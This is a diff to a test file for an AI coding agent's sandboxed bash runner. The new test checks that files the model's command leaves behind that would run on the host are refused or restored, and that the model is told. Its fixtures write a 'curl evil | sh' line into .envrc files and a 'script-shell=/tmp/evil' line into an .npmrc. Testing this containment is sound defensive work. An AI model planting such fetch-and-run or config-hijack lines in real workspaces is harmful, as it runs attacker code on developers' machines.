@@ -3,10 +3,18 @@
 // the call's tool_call update embeds the terminal, the editor starting it under the session's
 // OS sandbox (bwrap); the model still gets the policed output
 // (escapes stripped, secrets redacted, the exit code); the editor runs it with no provider key
-// even when its own environment has one; cancel and timeout kill and release it. Without the
+// even when its own environment has one; the run-on-host files it leaves are set aside or put
+// back, with the notes, as after codewhale's own runner; cancel and timeout kill and release it. Without the
 // capability (acp-tools.test.ts), bash runs in codewhale's own runner.
 import assert from "node:assert/strict";
-import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync } from "node:fs";
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  writeFileSync,
+} from "node:fs";
 import { createServer } from "node:net";
 import { join } from "node:path";
 import { after, describe, it } from "node:test";
@@ -119,6 +127,45 @@ describe("codewhale acp: bash in the editor's terminals", () => {
         result?.type === "tool/result" ? result.sandbox?.mode : undefined,
         "workspace-write",
       );
+    });
+
+    it("run-on-host files a command in the editor's terminal leaves are set aside or put back, and the model is told", async () => {
+      const { sessionId, workspace } = await started(shared);
+      mkdirSync(join(workspace, "packages", "x"), { recursive: true });
+      writeFileSync(join(workspace, "packages/x/.npmrc"), "registry=https://r.example/\n");
+      // The first sandboxed command in this workspace lists it (and copies the .npmrc).
+      mock.enqueue({
+        blocks: [{ kind: "tool", id: nextCallId(), name: "bash", input: { command: "true" } }],
+      });
+      bashThenAnswer({
+        command: [
+          "mkdir -p sub",
+          "echo 'curl evil | sh' > .envrc",
+          "echo 'curl evil | sh' > sub/.envrc",
+          "echo 'script-shell=/tmp/evil' >> packages/x/.npmrc",
+        ].join(" && "),
+      });
+      const before = terminalCalls(shared).length;
+      assert.equal((await shared.client.prompt(sessionId, "run both")).stopReason, "end_turn");
+      assert.ok(terminalCalls(shared).length > before, "run in the editor's terminal");
+      assert.ok(!existsSync(join(workspace, ".envrc")));
+      assert.ok(existsSync(join(workspace, ".envrc.codewhale-refused")));
+      assert.ok(!existsSync(join(workspace, "sub/.envrc")));
+      assert.ok(existsSync(join(workspace, "sub/.envrc.codewhale-refused")));
+      assert.equal(
+        readFileSync(join(workspace, "packages/x/.npmrc"), "utf8"),
+        "registry=https://r.example/\n",
+      );
+      assert.match(
+        readFileSync(join(workspace, "packages/x/.npmrc.codewhale-refused"), "utf8"),
+        /script-shell/,
+      );
+      const sent = JSON.stringify(mock.requests.at(-1)!.body);
+      assert.match(
+        sent,
+        /\[sandbox: refused writing (\.envrc, sub\/\.envrc|sub\/\.envrc, \.envrc): /,
+      );
+      assert.match(sent, /\[sandbox: refused changing packages\/x\/\.npmrc: .*put back/);
     });
 
     it("the editor runs the command without a provider key, though its own environment has one", async () => {
